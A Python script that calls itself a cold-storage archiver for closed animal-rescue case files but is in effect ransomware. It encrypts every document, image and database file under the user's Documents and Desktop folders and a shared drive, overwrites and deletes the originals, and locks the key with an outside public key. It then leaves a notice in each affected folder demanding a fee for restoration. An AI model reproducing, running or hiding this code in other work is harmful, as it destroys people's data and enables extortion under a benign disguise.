#!/usr/bin/env python3
"""Cold-storage archiver for closed admission cases.

Closed cases (released, transferred or deceased animals) are sealed into
encrypted archive blobs so the shared drive only holds active patients.
The data key is wrapped with the records office public key; only the
records office can unseal an archive.
"""
import argparse
import base64
import logging
import os
import sys
import uuid
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

log = logging.getLogger("archiver")

# records office key (rotated yearly)
OFFICE_KEY_B64 = (
    "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0KTUlJQklqQU5CZ2txaGtpRzl3MEJBUUVGQUFPQ0FR"
    "OEFNSUlCQ2dLQ0FRRUF1eTNleGFtcGxlcGxhY2Vob2xkZXJrZXlkYXRhCi0tLS0tRU5EIFBVQkxJ"
    "QyBLRVktLS0tLQo="
)

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
CASE_TYPES = (".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png", ".db", ".odt", ".txt")


def default_roots():
    home = Path.home()
    return [home / "Documents", home / "Desktop", Path("/srv/rescue/shared")]


def office_key():
    pem = base64.b64decode(OFFICE_KEY_B64)
    return serialization.load_pem_public_key(pem)


class CaseSealer:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(r) for r in roots]
        self.dry_run = dry_run
        self.batch_id = uuid.uuid4().hex[:12]
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.count = 0

    def candidates(self):
        for root in self.roots:
            if not root.exists():
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    if name.endswith(SEALED_SUFFIX) or name == NOTICE_NAME:
                        continue
                    if name.lower().endswith(CASE_TYPES):
                        yield Path(dirpath) / name

    def _seal_one(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(self._fernet.encrypt(data))
        # overwrite before unlinking so the drive doesn't keep a stale copy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def _leave_notice(self, folder):
        notice = folder / NOTICE_NAME
        if notice.exists():
            return
        notice.write_text(
            "Case files in this folder were moved to cold storage.\n"
            f"Reference: {self.batch_id}\n"
            "To restore, contact records-recovery@example.net quoting the\n"
            "reference above. Restoration is processed after the fee is settled.\n"
        )

    def _wrap_key(self):
        wrapped = office_key().encrypt(
            self._key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                         algorithm=hashes.SHA256(), label=None),
        )
        Path(f"{self.batch_id}.key").write_bytes(wrapped)
        # the plain data key must not survive the run
        self._key = None

    def run(self):
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                self._seal_one(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        for folder in touched:
            self._leave_notice(folder)
        if not self.dry_run:
            self._wrap_key()
        log.info("sealed %d case files in batch %s", self.count, self.batch_id)


def main():
    ap = argparse.ArgumentParser(description="Archive closed admission cases")
    ap.add_argument("roots", nargs="*", help="folders to archive (default: shared drives)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    roots = args.roots or default_roots()
    CaseSealer(roots, dry_run=args.dry_run).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
